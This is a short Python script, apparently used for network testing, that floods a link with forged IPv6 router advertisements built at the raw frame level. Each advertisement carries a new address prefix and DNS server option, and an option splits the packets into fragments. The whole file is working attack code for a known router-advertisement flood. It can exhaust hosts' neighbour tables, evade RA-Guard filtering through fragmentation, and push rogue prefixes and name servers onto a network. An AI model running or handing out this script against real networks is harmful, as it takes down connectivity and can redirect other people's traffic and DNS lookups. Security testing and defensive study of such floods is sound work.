# Sends so many router advertisements as fast as the link takes them, each with another prefix and name server:
# router-flood.py LINK COUNT [PREFIX [HOPS [PREFERRED [FRAGMENTED]]]], with the first half of a /32, the hop limit, the preferred
# lifetime, and 1 for each in two fragments.
# One router sends them all: the kernel's table of neighbours is one for all namespaces, and
# when it is full no advertisement of another router counts.
import socket
import struct
import sys

LINK, COUNT = sys.argv[1], int(sys.argv[2])
PREFIX, HOPS, PREFERRED, FRAGMENTED, *_ = [*sys.argv[3:], *["2001:db8", "255", "1800", "0"][len(sys.argv) - 3 :]]
GROUP = socket.inet_pton(socket.AF_INET6, "ff02::1")
AUTONOMOUS_AND_ON_LINK = 0xC0
LIFETIME = 1800
MAC = b"\x02\xee\x00\x00\x00\x01"
SOURCE = socket.inet_pton(socket.AF_INET6, "fe80::ee")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(number):
    prefix = socket.inet_pton(socket.AF_INET6, f"{PREFIX}::")[:4] + struct.pack("!I", number) + bytes(8)
    body = struct.pack("!BBHII", 64, 0, LIFETIME, 0, 0)
    body += struct.pack("!BB", 1, 1) + MAC
    body += struct.pack("!BBBBIII", 3, 4, 64, AUTONOMOUS_AND_ON_LINK, LIFETIME, int(PREFERRED), 0) + prefix
    body += struct.pack("!BBHI", 25, 3, 0, LIFETIME) + prefix[:8] + bytes(7) + b"\x53"
    icmp = struct.pack("!BBH", 134, 0, 0) + body
    pseudo = SOURCE + GROUP + struct.pack("!II", len(icmp), socket.IPPROTO_ICMPV6)
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    if FRAGMENTED == "0":
        return [packet(socket.IPPROTO_ICMPV6, icmp)]
    half = len(icmp) // 16 * 8
    first = struct.pack("!BBHI", socket.IPPROTO_ICMPV6, 0, 1, number) + icmp[:half]
    second = struct.pack("!BBHI", socket.IPPROTO_ICMPV6, 0, half, number) + icmp[half:]
    return [packet(socket.IPPROTO_FRAGMENT, first), packet(socket.IPPROTO_FRAGMENT, second)]


def packet(next_header, payload):
    header = struct.pack("!IHBB", 6 << 28, len(payload), next_header, int(HOPS)) + SOURCE + GROUP
    return b"\x33\x33\x00\x00\x00\x01" + MAC + b"\x86\xdd" + header + payload


link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((LINK, 0))
for number in range(1, COUNT + 1):
    for part in advertisement(number):
        link.send(part)
